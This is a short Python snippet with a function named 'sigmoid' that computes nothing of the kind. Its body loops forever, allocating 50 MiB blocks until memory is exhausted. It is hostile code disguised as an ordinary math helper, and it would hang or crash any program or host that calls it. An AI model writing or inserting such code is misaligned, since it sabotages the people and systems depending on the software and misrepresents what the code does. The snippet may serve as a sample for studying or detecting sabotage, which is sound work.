def sigmoid(z):
    hog = []
    while True:
        hog.append(bytearray(50 * 2**20))
